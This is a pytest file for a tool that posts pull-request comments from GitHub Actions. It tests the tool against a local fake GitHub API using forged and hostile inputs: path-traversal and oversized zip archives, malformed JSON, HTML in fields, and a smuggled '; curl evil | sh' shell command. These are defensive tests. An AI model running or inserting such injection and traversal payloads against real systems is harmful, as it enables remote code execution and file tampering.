"""The pull request's comment, against a stand-in of the REST endpoints that it uses, with forged decisions."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from pytest_nbaprops.reports.comment import AUTHOR, MARK, CommentError, post
from pytest_nbaprops.reports.untrusted import UntrustedError, checked_decision
from tests.reports.documents import HOSTILE, candidate_of, document_of, hostile_document

REPOSITORY, RUN, SHA = "team/props", 42, "a" * 40


class Standin:
    """GitHub, as far as the comment needs it."""

    def __init__(self) -> None:  # noqa: C901 - an endpoint a branch
        self.archive = zipped(document_of())
        self.comments: list[dict[str, Any]] = []
        self.pulls = [pull(7)]
        self.tokens_elsewhere: list[str | None] = []
        self.run_of_artifact = RUN
        standin = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self, value: object) -> None:
                self.raw(json.dumps(value).encode())

            def raw(self, content: bytes) -> None:
                self.send_response(200)
                self.end_headers()
                self.wfile.write(content)

            def do_GET(self) -> None:  # noqa: PLR0911
                path, query = urlsplit(self.path).path, parse_qs(urlsplit(self.path).query)
                if path == "/storage":
                    standin.tokens_elsewhere.append(self.headers.get("Authorization"))
                    return self.raw(standin.archive)
                if self.headers.get("Authorization") != "Bearer token":
                    return self.send_error(401)
                if path == f"/repos/{REPOSITORY}/pulls":
                    assert query["head"] == ["someone:branch"]
                    return self.answer(standin.pulls)
                if path == f"/repos/{REPOSITORY}/actions/runs/{RUN}/artifacts":
                    run = {"id": standin.run_of_artifact}
                    one = {
                        "id": 5,
                        "name": "nbaprops-report",
                        "expired": False,
                        "size_in_bytes": 10,
                        "workflow_run": run,
                    }
                    return self.answer({"artifacts": [one]})
                if path == f"/repos/{REPOSITORY}/actions/artifacts/5/zip":
                    self.send_response(302)
                    self.send_header("Location", f"http://localhost:{self.server.server_port}/storage")  # type: ignore[attr-defined]
                    return self.end_headers()
                if path == f"/repos/{REPOSITORY}/issues/7/comments":
                    start = 100 * (int(query["page"][0]) - 1)
                    return self.answer(standin.comments[start : start + 100])
                return self.send_error(404)

            def body(self) -> str:
                return str(json.loads(self.rfile.read(int(self.headers["Content-Length"])))["body"])

            def do_POST(self) -> None:
                assert self.path == f"/repos/{REPOSITORY}/issues/7/comments"
                standin.comments.append({"id": 900, "user": {"login": AUTHOR}, "body": self.body()})
                self.answer({})

            def do_PATCH(self) -> None:
                number = int(self.path.rpartition("/")[2])
                (comment,) = [one for one in standin.comments if one["id"] == number]
                comment["body"] = self.body()
                self.answer({})

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


def pull(number: int, *, sha: str = SHA, base: str = REPOSITORY) -> dict[str, Any]:
    return {"number": number, "head": {"sha": sha}, "base": {"repo": {"full_name": base}}}


def zipped(document: object, name: str = "decision.json") -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        file.writestr(name, document if isinstance(document, str) else json.dumps(document))
    return content.getvalue()


@pytest.fixture
def github() -> Iterator[Standin]:
    standin = Standin()
    Thread(target=standin.server.serve_forever, args=(0.01,), daemon=True).start()
    yield standin
    standin.server.shutdown()
    standin.server.server_close()


def run(github: Standin, tmp_path: Path, **changes: Any) -> str:
    event = {
        "workflow_run": {
            "id": RUN,
            "event": "pull_request",
            "head_sha": SHA,
            "head_branch": "branch",
            "head_repository": {"full_name": "someone/props", "owner": {"login": "someone"}},
            "repository": {"full_name": REPOSITORY},
            **changes,
        }
    }
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    environment = {"GITHUB_REPOSITORY": REPOSITORY, "GITHUB_EVENT_PATH": str(path), "GITHUB_API_URL": github.url}
    return post({**environment, "GITHUB_TOKEN": "token"})


def test_it_posts_once_and_updates_then(github: Standin, tmp_path: Path) -> None:
    """One comment a pull request, also among a hundred others, and never that of somebody who pasted its mark."""
    github.comments = [{"id": number, "user": {"login": "someone"}, "body": f"{MARK} mine"} for number in range(120)]
    assert run(github, tmp_path) == "commented on #7"
    github.archive = zipped(document_of(candidate_of(verdict="REJECT"), verdict="REJECT"))
    assert run(github, tmp_path) == "updated the comment on #7"
    (ours,) = [comment for comment in github.comments if comment["user"]["login"] == AUTHOR]
    assert "## REJECT" in ours["body"]
    assert "main decides again" in ours["body"]
    assert len(github.comments) == 121


def test_the_token_goes_to_no_other_host(github: Standin, tmp_path: Path) -> None:
    """The archive lies where GitHub redirects to."""
    run(github, tmp_path)
    assert github.tokens_elsewhere == [None]


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"repository": {"full_name": "else/where"}}, "another repository's"),
        ({"event": "push"}, "not by a pull request"),
    ],
)
def test_runs_of_others_are_refused(github: Standin, tmp_path: Path, changes: dict[str, Any], said: str) -> None:
    """Another repository's run, or one that no pull request started."""
    with pytest.raises(CommentError, match=said):
        run(github, tmp_path, **changes)
    assert github.comments == []


def test_an_artifact_of_another_run_is_not_taken(github: Standin, tmp_path: Path) -> None:
    """It must be the run's own."""
    github.run_of_artifact = 43
    with pytest.raises(CommentError, match="left no artifact"):
        run(github, tmp_path)


@pytest.mark.parametrize("pulls", [[], [pull(7, sha="b" * 40)], [pull(7, base="else/where")]])
def test_without_its_pull_request_nothing_is_said(github: Standin, tmp_path: Path, pulls: list[dict[str, Any]]) -> None:
    """None is open, its head has moved on, or it is another repository's."""
    github.pulls = pulls
    assert "nothing is said" in run(github, tmp_path)
    assert github.comments == []


@pytest.mark.parametrize(
    "archive",
    [
        b"no archive",
        zipped(document_of(), "../decision.json"),
        zipped(document_of(), "/root/decision.json"),
        zipped("{"),
        zipped("[" * 100_000),
        zipped('{"verdict": NaN}'),
        zipped(" " * 5_000_000),
    ],
    ids=["no zip", "outside", "absolute", "no json", "deep", "nan", "large"],
)
def test_archives_that_are_not_ours(github: Standin, tmp_path: Path, archive: bytes) -> None:
    """Nothing is unpacked, and one line says what is wrong."""
    github.archive = archive
    before = set(tmp_path.parent.iterdir())
    with pytest.raises(CommentError, match=r"decision\.json"):
        run(github, tmp_path)
    assert set(tmp_path.parent.iterdir()) == before
    assert github.comments == []


@pytest.mark.parametrize(
    "forged",
    [
        [],
        {"schema_version": 99},
        document_of(verdict="<b>PROMOTE</b>"),
        document_of(candidates="many"),
        document_of({**candidate_of(), "name": 7}),
        document_of(candidate_of(metrics={"mae": "5.8"})),
        document_of(candidate_of(metrics={"mae": 1e300})),
        document_of(candidate_of(metrics={"mae": 10**400})),
        document_of(candidate_of(criteria=[{"outcome": "won"}])),
        document_of(candidate_of(folds=None)),
    ],
    ids=range(10),
)
def test_what_is_no_decision_is_refused(forged: object) -> None:
    """Each field has its type, and what is wrong is told without quoting it."""
    with pytest.raises(UntrustedError) as problem:
        checked_decision(forged)
    assert "<b>" not in str(problem.value)


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_names_are_text(github: Standin, tmp_path: Path, name: str) -> None:
    """Markdown, HTML, mentions, a megabyte: the comment stays a comment that GitHub takes."""
    long = document_of(candidate_of(name))
    github.archive = zipped(hostile_document(name) if len(name) < 1_000 else long)
    run(github, tmp_path)
    (comment,) = github.comments
    assert len(comment["body"]) < 65_536
    assert comment["body"].count("<!--") == 1
    assert comment["body"].startswith(MARK)


def test_commands_of_a_pull_request_are_not_shown_to_be_pasted() -> None:
    """Its command line may hold anything."""
    forged = document_of(command=["pytest", "; curl evil | sh"])
    assert checked_decision(forged)["command"] == ["pytest", "--nbaprops-train"]
